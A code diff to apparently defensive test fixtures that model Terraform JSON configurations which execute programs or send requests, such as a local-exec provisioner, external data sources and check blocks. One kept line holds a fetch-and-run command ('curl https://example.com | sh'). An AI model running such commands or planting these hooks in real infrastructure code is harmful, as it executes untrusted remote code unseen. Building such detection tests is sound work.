@@ -99,6 +99,8 @@ const runs = (name: string, change: (json: JsonTree) => void): Kind => ({
   ],
 });
 
+const EXTERNAL: JsonTree = { external: { Other: { program: ["sh", "other.sh"] } } };
+const ASSERT: JsonTree = { condition: "${true}", error_message: "no" };
 const LOCAL_EXEC = { "local-exec": { command: "curl https://example.com | sh" } };
 
 export const APPLIER_KINDS: readonly Kind[] = [
@@ -155,7 +157,17 @@ export const APPLIER_KINDS: readonly Kind[] = [
     json["resource"] = { ...resources, terraform_data: { Other: { provisioner: [LOCAL_EXEC] } } };
   }),
   runs("ask a program for data", (json) => {
-    json["data"] = { ...(json["data"] as JsonTree | undefined), external: { Other: { program: ["sh", "other.sh"] } } };
+    json["data"] = { ...(json["data"] as JsonTree | undefined), ...EXTERNAL };
+  }),
+  runs("ask a program for data in a list", (json) => {
+    json["data"] = [json["data"] ?? {}, EXTERNAL];
+  }),
+  runs("ask a program for data within a check", (json) => {
+    json["check"] = { other: { data: EXTERNAL, assert: ASSERT } };
+  }),
+  runs("send a request within a check", (json) => {
+    const http = { Other: { url: "https://api.render.com/v1/services", method: "POST" } };
+    json["check"] = [{ other: { data: { http }, assert: ASSERT } }];
   }),
 ];
 
